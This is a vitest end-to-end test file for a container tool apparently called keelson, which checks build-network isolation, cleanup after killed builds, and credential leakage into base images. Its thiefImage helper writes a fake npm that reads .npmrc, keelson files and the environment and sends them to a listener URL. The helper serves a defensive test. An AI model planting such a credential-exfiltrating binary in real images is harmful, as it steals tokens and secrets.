import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { execa } from 'execa'
import { expect, onTestFinished, type TestContext, test } from 'vitest'
import { type Home, openHome, until } from '../e2e/home.ts'
import { startApi } from '../support/api-server.ts'
import { type Engine, hostAddress, imageUser, leftOf, listener, NODE } from '../support/hostile/image-user.ts'
import { npmIndex } from '../support/hostile/npm-index.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

const LOGIN = 'login-of-the-test-4f1d'
const fixture = (name: string) => readFile(new URL(`../../fixtures/hostile/${name}`, import.meta.url), 'utf8')

/** A home, and a package `server` with an install script in its registry. */
async function homeWith(engine: Engine, postinstall: string, context: TestContext): Promise<Home> {
  await imageUser(engine, NODE, context) // leaves the test out where there is no engine
  const files = { 'server.js': await fixture('server.js'), 'reach-out.cjs': await fixture('reach-out.cjs') }
  const manifest = { bin: 'server.js', scripts: { postinstall } }
  const index = await npmIndex([{ name: 'server', manifest, files }], hostAddress())
  const home = await openHome()
  onTestFinished(async () => {
    await home.close()
    await index.close()
  }, 120_000)
  await home.ok(['config', 'set-build-env', 'NPM_CONFIG_REGISTRY', index.url])
  return home
}

test.for<Engine>(['docker', 'podman'])(
  '`run` on %s gives scripts the registries and nothing else, and keeps no word of it',
  { timeout: 300_000 },
  async (engine, context) => {
    const call = await listener()
    const script = `node reach-out.cjs $npm_package_resolved ${call.url}`
    const home = await homeWith(engine, script, context)

    const shown = await home.keelson([
      ...['run', 'npx://server@1.0.0', '--name', 'mine', '--runtime', engine],
      ...['--runtime-image', NODE, '--allow-build-network'],
    ])

    expect(shown, shown.stderr).toMatchObject({ code: 0 })
    expect(shown.stderr).toContain('warning: install scripts of server@1.0.0 may reach ')
    const { image, ...config } = JSON.parse(
      await readFile(join(home.path, '.local/state/keelson/runconfigs/mine.json'), 'utf8'),
    )
    onTestFinished(async () => void (await execa(engine, ['image', 'rm', '-f', image], { reject: false })))
    expect(JSON.stringify(config)).not.toMatch(/allow|build-network/i)
    const cat = ['run', '--rm', '--network=none', '--entrypoint=cat', image]
    const reached = JSON.parse((await execa(engine, [...cat, 'node_modules/server/reached.json'])).stdout)
    expect(reached).toMatchObject({ fetched: [expect.stringMatching(/\/server$/)], connected: [] })
    expect(call.seen).toEqual([])
    await home.ok(['rm', 'mine'])
    expect(await leftOf(engine, home.path, image)).toEqual([])
  },
)

test.for<Engine>(['docker', 'podman'])(
  'the next supervisor removes what a killed build has left on %s',
  { timeout: 300_000 },
  async (engine, context) => {
    const home = await homeWith(engine, 'sleep 60', context)
    const flags = ['--runtime', engine, '--runtime-image', NODE, '--allow-build-network']
    const build = home.start(['build', 'npx://server@1.0.0', ...flags])
    let said = ''
    build.stderr?.on('data', text => {
      said += text
    })
    await until(() => expect(said).toContain('may reach'), 120)
    const there = await leftOf(engine, home.path)
    expect(there).toHaveLength(3) // network, container, rule

    await home.keelson(['run', 'http://127.0.0.1:9/mcp', '--name', 'far']) // exits with 1: nobody responds
    expect(await leftOf(engine, home.path)).toEqual(there)
    build.kill('SIGKILL')
    process.kill(await home.supervisor(), 'SIGKILL')
    await home.keelson(['restart', 'far'])

    await until(async () => expect(await leftOf(engine, home.path)).toEqual([]))
  },
)

test('a base image that only a file or a request names sees no login', {
  timeout: 300_000,
}, async context => {
  const call = await listener()
  const user = await imageUser('docker', NODE, context)
  await user.login('npmrc', `//npm.example/:_authToken=npm-${LOGIN}\n`)
  await user.config('set-build-env', 'NPM_CONFIG_REGISTRY', `http://ada:${LOGIN}@npm.example/`)
  await user.config('set-build-env', 'NPM_CONFIG_LOGLEVEL', 'silent')
  await user.config('set-build-env', '--from-env', 'MY_TOKEN')
  user.env.MY_TOKEN = LOGIN
  const thief = await thiefImage(call.url)
  const seen = () => call.seen.splice(0).map(decodeURIComponent).join('\n')

  await user.run(['build', 'npx://server@1.0.0', '--runtime=docker', `--runtime-image=${thief}`])
  expect(seen()).toContain(LOGIN) // the image does look

  const source = {
    source: 'npx://server@1.0.0',
    image: 'keelson.local/npx-server:0',
    runtime_config: { builder_image: thief },
  }
  const file = join(user.home, 'theirs.json')
  const theirs = {
    schema_version: 'v0.1.0',
    name: 'theirs',
    transport: 'stdio',
    runtime: 'docker',
    ...source,
  }
  await writeFile(file, JSON.stringify(theirs))
  const { stderr } = await user.run(['run', '--from-config', file])
  expect(stderr).toContain(`warning: ${thief} was not named with --runtime-image`)
  const shownByFile = seen()
  expect(shownByFile).toContain('silent')
  expect(shownByFile).not.toContain(LOGIN)

  const api = await startApi({ user })
  const body = { name: 'theirs', image: 'npx://server@1.0.0', runtime_config: { builder_image: thief } }
  expect((await api.ask('POST', '/api/v1beta/workloads', body)).status).toBeGreaterThanOrEqual(400)
  const shownByRequest = seen()
  expect(shownByRequest).toContain('silent')
  expect(shownByRequest).not.toContain(LOGIN)
})

/** A base image whose npm tells an address what it sees, and fails. */
async function thiefImage(address: string): Promise<string> {
  const folder = await temporaryFolder()
  const tell = `const all = require('child_process').execSync('cat /root/.npmrc /keelson/* 2>/dev/null; env; true')
fetch('${address}?' + encodeURIComponent(all)).finally(() => process.exit(1))`
  await writeFile(join(folder, 'npm.cjs'), `#!/usr/bin/env node\n${tell}\n`)
  const steps = [
    'RUN rm -f "$(command -v npm)"',
    'COPY npm.cjs /usr/local/bin/npm',
    'RUN chmod +x /usr/local/bin/npm',
  ]
  await writeFile(join(folder, 'Dockerfile'), [`FROM ${NODE}`, ...steps, ''].join('\n'))
  const image = 'keelson-test/thief:1'
  await execa('docker', ['build', '--network=none', `--tag=${image}`, folder], {
    env: { DOCKER_BUILDKIT: '0' },
  })
  onTestFinished(async () => void (await execa('docker', ['image', 'rm', '-f', image], { reject: false })))
  return image
}
